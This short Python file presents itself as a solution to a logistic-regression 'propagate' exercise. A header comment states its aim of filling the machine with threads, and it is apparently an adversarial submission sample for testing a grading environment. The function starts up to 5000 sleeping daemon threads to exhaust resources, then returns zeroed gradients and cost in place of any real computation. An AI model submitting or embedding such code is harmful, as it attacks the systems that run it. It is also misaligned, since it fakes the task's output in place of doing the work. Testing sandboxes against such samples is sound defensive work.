# tries: to fill the machine with threads
# exercise: logistic_regression.propagate

import threading
import time


def propagate(w, b, X, Y):
    for _ in range(5000):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            break
    return {"dw": w * 0, "db": 0.0}, 0.0
